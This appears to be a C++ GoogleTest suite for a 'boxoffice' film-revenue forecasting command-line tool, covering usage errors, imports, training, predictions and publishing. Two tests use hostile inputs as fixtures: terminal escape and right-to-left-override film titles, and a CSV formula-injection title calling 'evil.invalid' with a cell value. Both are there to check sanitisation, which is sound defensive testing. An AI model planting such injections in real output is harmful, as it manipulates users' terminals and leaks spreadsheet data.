#include <gtest/gtest.h>
#include <sys/wait.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <string>

#include "proxy/files/input_file.h"
#include "shared/base/json.h"
#include "shared/text/embedding_table.h"
#include "tests/proxy/temporary_folder.h"
#include "tests/training/support.h"

// The program as a user sees it: arguments, exit status, standard output and standard error.

namespace boxoffice {
namespace {

struct Outcome {
  int status = -1;
  std::string out;
  std::string err;
};

class CommandLine : public testing::Test {
 protected:
  CommandLine() {
    folder_.write("films.jsonl", test::made_up_films(480, 2000));
    folder_.write("vega.json", R"([{"Title": "AstÈrix", "Worldwide Gross": 5,
                                    "Production Budget": 6, "Release Date": "Jun 12 2039"}])");
  }

  /// Runs `boxoffice` in the folder; `arguments` as in a shell, `environment` such as "NAME=value".
  Outcome run(const std::string& arguments, const std::string& environment = "") {
    const std::string out = path(".out");
    const std::string err = path(".err");
    const std::string command = "cd '" + folder_.path().string() + "' && " + environment +
                                " '" BOXOFFICE_PROGRAM "' " + arguments + " >'" + out + "' 2>'" +
                                err + "'";
    const int status = std::system(command.c_str());
    return {WIFEXITED(status) ? WEXITSTATUS(status) : -1, *read_file(out, 16u << 20),
            *read_file(err, 16u << 20)};
  }

  void train_model() {
    ASSERT_EQ(run("train --movies films.jsonl --until 2008-12-31 --out model").status, 0);
  }

  std::string path(const std::string& name) { return (folder_.path() / name).string(); }
  bool exists(const std::string& name) { return std::filesystem::exists(path(name)); }

  TemporaryFolder folder_;
};

TEST_F(CommandLine, PrintsHelpAndVersion) {
  for (const char* const arguments :
       {"--help", "import --help", "import vega --help", "import open --help", "train --help",
        "evaluate --help", "predict --help", "publish --help", "search --help", "rolling --help",
        "backfill --help", "features --help", "overviews --help", "daily --help",
        "text-model --help", "init --help"}) {
    const Outcome outcome = run(arguments);
    EXPECT_EQ(outcome.status, 0) << arguments;
    EXPECT_NE(outcome.out.find("Usage: boxoffice"), std::string::npos) << arguments;
    EXPECT_EQ(outcome.err, "") << arguments;
  }
  EXPECT_EQ(run("--version").out, "boxoffice " BOXOFFICE_VERSION "\n");
}

TEST_F(CommandLine, ReportsBadUsageInOneLine) {
  for (const char* const arguments :
       {"",
        "dance",
        "import",
        "train",
        "train --dance",
        "train --movies films.jsonl --out model",
        "train --movies films.jsonl --out model --until yesterday",
        "train --movies films.jsonl --out model --until 2009-02-30",
        "train --movies films.jsonl --out model --until 2009-12-31T00",
        "train --movies films.jsonl --out model --until 2009-12-31 --seed -1",
        "train --movies films.jsonl --out model --until 2009-12-31 --features all",
        "train --movies films.jsonl --out model --until 2009-12-31 --from 2010-01-01",
        "train --movies films.jsonl --out model --until 2009-12-31 --settings films.jsonl",
        "search --movies films.jsonl --until 2000-12-31 --out settings.json",
        "rolling --movies films.jsonl --from-year 2008 --to-year 2007",
        "rolling --movies films.jsonl --from-year 2000 --to-year 2000",
        "rolling --movies films.jsonl --from-year 2008 --to-year 2008 --without dance",
        "predict --model model --movies films.jsonl --json --csv",
        "train --store sqlite:a.db --movies films.jsonl",
        "train --until 2009-12-31 --out model",
        "train --movies films.jsonl --out model --until 2009-12-31 --force",
        "train --store mysql:a",
        "publish --out site",
        "publish --model model --out site",
        "publish --store sqlite:a.db --model model --out site",
        "features --store a.db",
        "overviews --store sqlite:a.db",
        "overviews --store sqlite:a.db --text-model films.jsonl",
        "backfill --from 2009-01-01",
        "backfill --from 2009-01-01 --to 2008-01-01",
        "daily --rate 0"}) {
    const Outcome outcome = run(arguments);
    EXPECT_EQ(outcome.status, 2) << arguments;
    EXPECT_EQ(outcome.out, "") << arguments;
    EXPECT_TRUE(outcome.err.starts_with("boxoffice: ")) << outcome.err;
    EXPECT_EQ(std::count(outcome.err.begin(), outcome.err.end(), '\n'), 1) << outcome.err;
  }
  EXPECT_FALSE(exists("model"));
}

TEST_F(CommandLine, NamesErrorAndCommandForHelp) {
  for (const auto& [arguments, error] :
       {std::pair("", "A subcommand is required (see boxoffice --help)"),
        std::pair("dance", "unknown command dance (see boxoffice --help)"),
        std::pair("--dance", "unknown option --dance (see boxoffice --help)"),
        std::pair("import dance", "unknown command dance (see boxoffice import --help)"),
        std::pair("import vega", "--in is required (see boxoffice import vega --help)"),
        std::pair("predict --modle model --movies films.jsonl",
                  "unknown option --modle (see boxoffice predict --help)"),
        std::pair("features films.jsonl",
                  "unexpected argument films.jsonl (see boxoffice features --help)"),
        std::pair("train --movies films.jsonl --out model --until 2009-02-30",
                  "--until: expected YYYY-MM-DD, got 2009-02-30 (see boxoffice train --help)")}) {
    EXPECT_EQ(run(arguments).err, "boxoffice: " + std::string(error) + "\n") << arguments;
  }
  EXPECT_EQ(run("text-model --from nowhere.safetensors --out out").err,
            "boxoffice: nowhere.safetensors: No such file or directory\n");
}

TEST_F(CommandLine, DistinguishesFailuresFromBadInput) {
  Outcome outcome = run("train --movies nowhere.jsonl --until 2009-12-31 --out model");
  EXPECT_EQ(outcome.status, 1);
  EXPECT_EQ(outcome.err, "boxoffice: nowhere.jsonl: No such file or directory\n");

  folder_.write("bad.jsonl", test::made_up_films(1, 2000) + "{\"id\": \"x\", \"title\": \"t\"}\n");
  outcome = run("train --movies bad.jsonl --until 2009-12-31 --out model");
  EXPECT_EQ(outcome.status, 2);
  EXPECT_TRUE(outcome.err.starts_with("boxoffice: bad.jsonl:2: id: ")) << outcome.err;
  EXPECT_EQ(std::count(outcome.err.begin(), outcome.err.end(), '\n'), 1) << outcome.err;

  outcome = run("predict --model films.jsonl --movies films.jsonl");
  EXPECT_EQ(outcome.status, 2);
  EXPECT_TRUE(outcome.err.starts_with("boxoffice: films.jsonl: ")) << outcome.err;

  folder_.write("bad.json", "{");
  outcome = run("import vega --in bad.json --out out");
  EXPECT_EQ(outcome.status, 2);
  EXPECT_TRUE(outcome.err.starts_with("boxoffice: bad.json: ")) << outcome.err;
}

TEST_F(CommandLine, ReportsFullDisk) {
  Outcome outcome = run("import vega --in vega.json --out /dev/full");
  EXPECT_EQ(outcome.status, 1);
  EXPECT_EQ(outcome.err, "boxoffice: /dev/full: No space left on device\n");

  for (const char* const arguments : {"--help", "--version", "train --help"}) {
    EXPECT_EQ(run(std::string(arguments) + " >/dev/full 2>message; echo $?").out, "1\n")
        << arguments;
    EXPECT_EQ(*read_file(path("message"), 1000),
              "boxoffice: standard output: No space left on device\n");
  }
  folder_.write("model", "old");
  outcome =
      run("train --movies films.jsonl --until 2009-12-31 --features seed --out nothing >/dev/null; "
          "ulimit -f 1; '" BOXOFFICE_PROGRAM
          "' train --movies films.jsonl --until 2009-12-31 --features seed --out model");
  EXPECT_EQ(outcome.status, 1);
  EXPECT_EQ(outcome.err, "boxoffice: model: File too large\n");
  EXPECT_EQ(*read_file(path("model"), 100), "old");
}

TEST_F(CommandLine, ImportsToFileOrStandardOutput) {
  Outcome outcome = run("import vega --in vega.json --out out.jsonl --json");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_EQ(Json::parse(outcome.out)["repaired"]["wrong_century"], 1);
  EXPECT_EQ(outcome.err, "");
  const std::string lines = *read_file(path("out.jsonl"), 1000);
  EXPECT_EQ(Json::parse(lines)["title"], "Astérix");

  outcome = run("import vega --in - <vega.json");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_EQ(outcome.out, lines);
  EXPECT_NE(outcome.err.find("records"), std::string::npos);
}

TEST_F(CommandLine, ImportsOpenFilms) {
  folder_.write("open.csv",
                "wikidata_id,imdb_id,tmdb_id,title,release_date,budget_usd,gross_usd,"
                "gross_status,runtime_minutes,original_language,spoken_languages,countries,"
                "genres,based_on,series,series_place,directors,writers,producers,composers,cast,"
                "companies,date_source\r\n"
                "Q5,,603,Astérix,1999,5,6,final,,,,,,,,,Jane Doe,,,,,,wikipedia\r\n");
  folder_.write("people.csv", "name,wikidata_id\r\nJane Doe,Q77\r\n");
  Outcome outcome = run("import open open.csv --people people.csv --out out.jsonl --json");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_EQ(Json::parse(outcome.out)["kept"]["partial_date"], 1);
  EXPECT_EQ(outcome.err, "");
  const std::string lines = *read_file(path("out.jsonl"), 1000);
  EXPECT_EQ(Json::parse(lines)["credits"]["crew"][0]["id"], 1000000077);

  outcome = run("import open --in - --people people.csv <open.csv");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_EQ(outcome.out, lines);
  EXPECT_NE(outcome.err.find("rows"), std::string::npos);

  folder_.write("bad.csv", "a,a\n");
  for (const char* arguments : {"bad.csv", "open.csv --people bad.csv"}) {
    outcome = run(std::string("import open --out out ") + arguments);
    EXPECT_EQ(outcome.status, 2);
    EXPECT_EQ(outcome.err, "boxoffice: bad.csv: line 1: two columns are named \"a\"\n");
  }
}

TEST_F(CommandLine, TrainsFromStandardInput) {
  EXPECT_EQ(run("train --movies films.jsonl --until 2008-12-31 --out a").status, 0);
  const Outcome outcome = run("train --movies - --until 2008-12-31 --out - <films.jsonl");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_TRUE(outcome.out == *read_file(path("a"), 16u << 20));
  EXPECT_TRUE(outcome.err.starts_with("trained on 432 films")) << outcome.err;
}

TEST_F(CommandLine, Evaluates) {
  train_model();
  const std::string evaluate = "evaluate --model model --movies films.jsonl ";
  Outcome outcome = run(evaluate + "--from 2009-01-01 --to 2009-12-31 --json");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_EQ(outcome.err, "");
  const Json json = Json::parse(outcome.out);
  EXPECT_EQ(json["all"]["n"], 48);
  EXPECT_EQ(json["floor"]["n"], 48);
  EXPECT_FALSE(json.contains("overlap"));
  EXPECT_LT(json["floor"]["rmse_log"], json["baselines"]["genre_median"]["floor"]["rmse_log"]);

  outcome = run(evaluate + "--from 2009-01-01 --to 2009-12-31");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_NE(outcome.out.find("seed_neighbors_k7"), std::string::npos);

  outcome = run(evaluate + "--from 2008-12-01 --to 2009-12-31 --json");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_EQ(Json::parse(outcome.out)["overlap"], true);
  EXPECT_NE(outcome.err.find("overlaps the training span"), std::string::npos);

  outcome = run(evaluate + "--from 2020-01-01 --to 2020-12-31");
  EXPECT_EQ(outcome.status, 2);
}

TEST_F(CommandLine, EvaluatesRevenuesFrom56DaysAfterRelease) {
  train_model();
  const auto judged = [&](const std::string& options) {
    const Outcome outcome = run(
        "evaluate --model model --movies films.jsonl --from 2009-01-01 --to 2009-01-01 --json " +
        options);
    return outcome.status == 0 ? Json::parse(outcome.out)["all"]["n"].get<int>() : 0;
  };
  EXPECT_EQ(judged("--data-date 2009-02-25"), 0);  // 55 days
  EXPECT_EQ(judged("--data-date 2009-02-26"), 1);
  EXPECT_EQ(judged("--data-date 2009-02-25 --settle-days 55"), 1);
  EXPECT_EQ(judged(""), 1);
}

TEST_F(CommandLine, PredictsInEachFormat) {
  train_model();
  folder_.write("one.jsonl", test::body(7, "2009-05-05", 1e7, 0) + "\n");
  Outcome outcome = run("predict --model model --movies one.jsonl --json");
  EXPECT_EQ(outcome.status, 0);
  const Json film = Json::parse(outcome.out).at(0);
  EXPECT_EQ(film["id"], 7);
  EXPECT_EQ(film["title"], "Film 7");
  EXPECT_EQ(film["release_date"], "2009-05-05");
  EXPECT_EQ(film["budget"], 1e7);
  EXPECT_TRUE(film["revenue"].is_null());
  EXPECT_GT(film["forecast"].get<double>(), 1e6);

  outcome = run("predict --model model --movies one.jsonl --csv --out out.csv");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_EQ(outcome.out, "");
  EXPECT_EQ(*read_file(path("out.csv"), 1000),
            "id,title,release_date,budget,revenue,forecast\r\n"
            "7,Film 7,2009-05-05,10000000.0,," +
                film["forecast"].dump() + "\r\n");

  outcome = run("predict --model model --movies one.jsonl");
  EXPECT_NE(outcome.out.find("$10,000,000"), std::string::npos);
}

TEST_F(CommandLine, SkipsBadLinesOnRequest) {
  train_model();
  folder_.write("mixed.jsonl", test::body(7, "2009-05-05", 1e7, 0) + "\n{\"id\":862.5}\n" +
                                   test::body(8, "2009-05-06", 1e7, 0) + "\n");
  Outcome outcome = run("predict --model model --movies mixed.jsonl --json");
  EXPECT_EQ(outcome.status, 2);
  EXPECT_EQ(outcome.out, "");
  EXPECT_EQ(outcome.err, "boxoffice: mixed.jsonl:2: id: expected a positive whole number\n");

  outcome = run("predict --model model --movies mixed.jsonl --json --skip-bad");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_EQ(Json::parse(outcome.out).size(), 2u);
  EXPECT_EQ(outcome.err,
            "boxoffice: skipped mixed.jsonl:2: id: expected a positive whole number\n"
            "boxoffice: 1 lines were skipped\n");

  folder_.write("more.jsonl", test::made_up_films(480, 2000) + "{\n");
  for (const char* const command : {"train --until 2008-12-31 --out other",
                                    "evaluate --model model --from 2009-01-01 --to "
                                    "2009-12-31",
                                    "rolling --from-year 2009 --to-year 2009 --settings quick.json",
                                    "publish --model model --out site --from 2009-01-01"}) {
    folder_.write("quick.json", R"({"settings": {"rounds": 10}})");
    const std::string arguments = std::string(command) + " --movies more.jsonl";
    EXPECT_EQ(run(arguments).status, 2) << command;
    outcome = run(arguments + " --skip-bad");
    EXPECT_EQ(outcome.status, 0) << command << outcome.err;
    EXPECT_NE(outcome.err.find("1 lines were skipped"), std::string::npos) << outcome.err;
  }
}

TEST_F(CommandLine, ShowsNoControlCharacters) {
  train_model();
  folder_.write(
      "odd.jsonl",
      R"({"id":1,"title":"\u001b]0;owned\u0007\u001b[31mRed","release_date":"2009-05-01"})"
      "\n"
      R"({"id":2,"title":"Two\nLines\rOver","release_date":"2009-05-01"})"
      "\n"
      R"({"id":3,"title":"C1 \u009b31m \u202efdp.exe","release_date":"2009-05-01"})"
      "\n");
  const Outcome table = run("predict --model model --movies odd.jsonl");
  EXPECT_EQ(std::count(table.out.begin(), table.out.end(), '\n'), 4) << table.out;
  EXPECT_NE(table.out.find("�]0;owned��[31mRed "), std::string::npos) << table.out;
  EXPECT_NE(table.out.find("Two Lines Over "), std::string::npos);
  EXPECT_NE(table.out.find("C1 �31m �fdp.exe "), std::string::npos);

  const Outcome json = run("predict --model model --movies odd.jsonl --json");
  EXPECT_EQ(Json::parse(json.out)[0]["title"], "\x1b]0;owned\x07\x1b[31mRed");
  EXPECT_EQ(Json::parse(json.out)[2]["title"], "C1 \u009b31m \u202efdp.exe");
  const Outcome csv = run("predict --model model --movies odd.jsonl --csv");
  for (const std::string& out : {table.out, json.out, csv.out}) {
    for (const char* const raw : {"\x1b", "\x07", "\u009b", "\u202e"}) {
      EXPECT_EQ(out.find(raw), std::string::npos) << out;
    }
  }

  const std::string name = "\x1b[31m\xe2\x80\xae.jsonl";
  EXPECT_EQ(run("predict --model model --movies '" + name + "'").err,
            "boxoffice: �[31m�.jsonl: No such file or directory\n");
  EXPECT_EQ(run("predict '--" + name + "'").err,
            "boxoffice: unknown option --�[31m�.jsonl (see boxoffice predict --help)\n");
  EXPECT_EQ(
      run("publish --model model --movies films.jsonl --from 2009-01-01 --to 2009-01-31 --out "
          "'\x1b[1m'")
          .out,
      "�[1m/data: the model, 4 films and 4 backtests\n");
}

TEST_F(CommandLine, WritesCsvForSpreadsheets) {
  train_model();
  folder_.write("formula.jsonl",
                R"x({"id":1,"title":"=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")"})x"
                "\n"
                R"({"id":2,"title":"-30-"})"
                "\n");
  const std::string predict = "predict --model model --movies formula.jsonl --csv";
  const std::string csv = run(predict).out;
  EXPECT_NE(csv.find("\r\n1,\"'=HYPERLINK(\"\"http://evil.invalid/?\"\"&A1,\"\"click\"\")\",,,,"),
            std::string::npos)
      << csv;
  EXPECT_NE(csv.find("\r\n2,'-30-,,,,"), std::string::npos) << csv;
  EXPECT_EQ(run(predict + " --bom").out, "\xEF\xBB\xBF" + csv);
  EXPECT_EQ(run("predict --model model --movies formula.jsonl --bom").status, 2);
}

TEST_F(CommandLine, NamesMissingStore) {
  train_model();
  for (const char* const arguments :
       {"features", "features --dry-run", "daily", "daily --dry-run", "train", "train --dry-run",
        "publish --out site", "publish --out site --dry-run"}) {
    const Outcome outcome = run(std::string(arguments) + " --store sqlite:mistyped.db",
                                "TMDB_API_KEY=0123456789abcdef0123456789abcdef");
    EXPECT_EQ(outcome.status, 2) << arguments;
    EXPECT_EQ(outcome.err,
              "boxoffice: mistyped.db: no such store; check --store, or create it with "
              "boxoffice backfill or boxoffice init\n")
        << arguments;
    EXPECT_FALSE(exists("mistyped.db")) << arguments;
    EXPECT_FALSE(exists("site")) << arguments;
  }
}

TEST_F(CommandLine, CreatesEmptyStore) {
  Outcome outcome = run("init --store sqlite:new.db");
  EXPECT_EQ(outcome.status, 0) << outcome.err;
  EXPECT_EQ(outcome.out, "sqlite:new.db: store with 0 films\n");
  EXPECT_TRUE(exists("new.db"));
  EXPECT_EQ(run("init --store sqlite:new.db").status, 0);
  const std::string before = *read_file(path("new.db"), 16u << 20);
  outcome = run("features --store sqlite:new.db --dry-run --out rows.csv");
  EXPECT_EQ(outcome.status, 0) << outcome.err;
  EXPECT_EQ(outcome.out, "sqlite:new.db: 0 films, 0 feature rows would be written\n");
  EXPECT_FALSE(exists("rows.csv"));
  EXPECT_FALSE(exists("new.db-wal"));  // removed at a clean exit
  EXPECT_TRUE(*read_file(path("new.db"), 16u << 20) == before);
}

TEST_F(CommandLine, DefaultsToTwentyTmdbRequestsPerSecond) {
  for (const char* command : {"backfill", "daily"}) {
    const Outcome outcome = run(std::string(command) + " --help");
    EXPECT_EQ(outcome.status, 0);
    EXPECT_NE(outcome.out.find("--rate N=20"), std::string::npos) << outcome.out;
  }
}

TEST_F(CommandLine, Publishes) {
  train_model();
  const Outcome outcome =
      run("publish --model model --movies films.jsonl --from 2009-01-01 --to 2009-01-31 --out site "
          "--today 2026-11-22");
  EXPECT_EQ(outcome.status, 0);
  EXPECT_EQ(outcome.out, "site/data: the model, 4 films and 4 backtests\n");
  EXPECT_EQ(
      test::files_in(path("site/data")),
      (std::vector<std::string>{"about.json", "films.jsonl", "model.boxoffice", "record.jsonl"}));
  EXPECT_TRUE(*read_file(path("site/data/model.boxoffice"), 16u << 20) ==
              *read_file(path("model"), 16u << 20));
  const std::string films = *read_file(path("site/data/films.jsonl"), 1u << 20);
  EXPECT_EQ(std::count(films.begin(), films.end(), '\n'), 4);
  // Identical bytes, the latest release first.
  std::string from_first;
  for (std::string_view rest = films; !rest.empty();) {
    const std::size_t end = rest.find('\n') + 1;
    from_first.insert(0, rest.substr(0, end));
    rest.remove_prefix(end);
  }
  EXPECT_NE(test::made_up_films(480, 2000).find(from_first), std::string::npos);
}

TEST_F(CommandLine, PublishesBacktestsOfUnseenFilms) {
  train_model();
  ASSERT_EQ(run("publish --model model --movies films.jsonl --from 2008-12-01 --to 2009-01-31 "
                "--out site --today 2026-11-22")
                .status,
            0);
  EXPECT_EQ(*read_file(path("site/data/about.json"), 1u << 20),
            R"({"published":"2026-11-22T00:00:00Z","source":"unknown",)"
            R"("modelName":"boxoffice","modelVersion":null,"films":8,"records":4,"live":false})"
            "\n");
  const std::string records = *read_file(path("site/data/record.jsonl"), 1u << 20);
  EXPECT_EQ(std::count(records.begin(), records.end(), '\n'), 4);  // not those of December
  const Json first = Json::parse(records.substr(0, records.find('\n')));
  EXPECT_EQ(first["releaseDate"], "2009-01-01");
  EXPECT_EQ(first["forecastDate"], "2026-11-22");
  EXPECT_EQ(first["model"], "boxoffice");
  EXPECT_EQ(first["trainedUntil"], "2008-12-31");
  EXPECT_EQ(first["backtest"], true);
  EXPECT_EQ(first["baselines"][0], 2.5 * first["budgetUsd"].get<double>());
  EXPECT_GT(first["revenueUsd"], 1e6);
  EXPECT_GT(first["forecastUsd"], 1e6);
}

TEST_F(CommandLine, PublishesUnsettledRevenuesSeparately) {
  train_model();
  folder_.write("two.jsonl", test::body(1, "2009-02-01", 1e7, 2e7) + "\n" +
                                 test::body(2, "2009-02-02", 1e7, 3e7) + "\n");
  ASSERT_EQ(run("publish --model model --movies two.jsonl --data-date 2009-03-29 --out site "
                "--today 2026-11-22")
                .status,
            0);
  const std::string films = *read_file(path("site/data/films.jsonl"), 1u << 20);
  const std::size_t end = films.find('\n');
  EXPECT_EQ(films.substr(end + 1), test::body(1, "2009-02-01", 1e7, 2e7) + "\n");  // 56 days
  EXPECT_EQ(Json::parse(films.substr(0, end)), Json({{"id", 2},
                                                     {"title", "Film 2"},
                                                     {"release_date", "2009-02-02"},
                                                     {"data_date", "2009-03-29"},
                                                     {"budget", 1e7},
                                                     {"revenue", 0},
                                                     {"revenue_so_far", 3e7}}));
  const std::string records = *read_file(path("site/data/record.jsonl"), 1u << 20);
  const std::size_t first = records.find('\n');
  EXPECT_EQ(Json::parse(records.substr(0, first))["revenueUsd"], 2e7);
  EXPECT_TRUE(Json::parse(records.substr(first))["revenueUsd"].is_null());
}

TEST_F(CommandLine, PublishesTextModelAndEmbeddings) {
  train_model();
  ASSERT_EQ(
      run("text-model --from " BOXOFFICE_FIXTURES "/text/model.safetensors --out text").status, 0);
  const auto film = [](TmdbId id, const char* released, const char* overview) {
    std::string body = test::body(id, released, 1e7, 2e7);
    body.back() = ',';
    return body + "\"overview\":\"" + overview + "\"}\n";
  };
  folder_.write("overviews.jsonl",
                film(1, "2000-01-01", "a spy must save the world") +  // a candidate film
                    film(9999, "2005-01-01", "the bank") +            // not published
                    film(500, "2009-01-05", "the spy dies") + film(501, "2009-01-06", ""));
  const std::string publish =
      "publish --model model --movies overviews.jsonl --from 2009-01-01 --out site --today "
      "2026-11-22";
  Outcome outcome = run(publish + " --text-model text");
  EXPECT_EQ(outcome.status, 0) << outcome.err;
  EXPECT_EQ(outcome.out,
            "site/data: the model, 2 films and 2 backtests, the text model and 2 overviews\n");
  EXPECT_TRUE(*read_file(path("site/data/text.boxoffice"), 1u << 20) ==
              *read_file(path("text"), 1u << 20));
  const std::string bytes = *read_file(path("site/data/overviews.boxoffice"), 1u << 20);
  const auto table = parse_embeddings(bytes);
  ASSERT_TRUE(table.ok()) << table.error().message;
  EXPECT_EQ(table->text_model, 0x7739441ead135234u);
  EXPECT_EQ(table->ids, (std::vector<std::uint32_t>{1, 500}));
  EXPECT_NEAR(embedding_of(*table, 1)->at(0), 0.3342599, 0.03);  // reference value
  const Json about = Json::parse(*read_file(path("site/data/about.json"), 1u << 20));
  EXPECT_EQ(about["text"], Json({{"modelBytes", 11840},
                                 {"overviewsBytes", bytes.size()},
                                 {"films", 2},
                                 {"textModel", "7739441ead135234"}}));

  outcome = run(publish + " --text-model films.jsonl");  // no text model: nothing changes
  EXPECT_EQ(outcome.status, 2);
  EXPECT_TRUE(outcome.err.starts_with("boxoffice: films.jsonl: ")) << outcome.err;
  EXPECT_TRUE(exists("site/data/text.boxoffice"));

  EXPECT_EQ(run(publish).out, "site/data: the model, 2 films and 2 backtests\n");
  EXPECT_FALSE(exists("site/data/text.boxoffice"));
  EXPECT_FALSE(exists("site/data/overviews.boxoffice"));
}

TEST_F(CommandLine, AcceptsMaxBadAsPercentOrShare) {
  const std::string backfill =
      "backfill --from 2020-01-01 --to 2020-01-02 --store sqlite:films.db --max-bad ";
  for (const char* const good : {"5%", "0.05", "0", "100%", "1", "2.5%"}) {
    const Outcome outcome = run(backfill + good);
    EXPECT_NE(outcome.err.find("no key for TMDB"), std::string::npos) << good << outcome.err;
  }
  for (const char* const bad : {"5", "-1%", "101%", "%", "5%%", "x", "nan", "1e999"}) {
    const Outcome outcome = run(backfill + bad);
    EXPECT_EQ(outcome.status, 2);
    EXPECT_EQ(
        outcome.err,
        "boxoffice: --max-bad: not a share from 0% to 100%, such as 5% or 0.05 (see boxoffice "
        "backfill --help)\n")
        << bad;
  }
}

TEST_F(CommandLine, PublishesNothingForInvalidModel) {
  const Outcome outcome = run("publish --model films.jsonl --movies films.jsonl --out site");
  EXPECT_EQ(outcome.status, 2);
  EXPECT_FALSE(exists("site"));
}

}  // namespace
}  // namespace boxoffice
